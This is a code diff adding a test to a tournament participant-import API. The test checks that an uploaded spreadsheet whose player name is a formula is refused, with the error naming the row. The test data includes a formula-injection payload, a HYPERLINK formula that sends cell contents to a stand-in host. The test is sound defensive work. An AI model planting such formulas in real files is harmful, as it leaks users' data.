@@ -163,3 +163,22 @@ def test_import_needs_an_organiser_and_no_draw(api, referee, organiser):
     assert locked.status_code == 409
     assert locked.json()["errors"][0]["code"] == "draw_locked"
     assert tournament.participants.count() == 10
+
+
+def test_a_name_beginning_with_equals_is_refused_by_row(organiser_api):
+    """Spreadsheets read ``=…`` as a formula: the import refuses it, naming the row."""
+    tournament = factories.make_tournament()
+    workbook = Workbook()
+    sheet = workbook.active
+    sheet.append(["name", "nationality"])
+    sheet.append(["Lena Vogel", "DE"])
+    sheet.append(['=HYPERLINK("http://x?leak="&A1,"click")', "DE"])
+    sheet["A3"].data_type = "s"  # typed as text, as a spreadsheet program stores it
+    buffer = io.BytesIO()
+    workbook.save(buffer)
+    upload = SimpleUploadedFile("players.xlsx", buffer.getvalue(), content_type=XLSX)
+    response = _import(organiser_api, tournament, upload)
+    assert response.status_code == 400
+    errors = response.json()["errors"]
+    assert [(e["code"], e["row"], e["field"]) for e in errors] == [("formula_in_name", 3, "name")]
+    assert not Participant.objects.filter(tournament=tournament).exists()
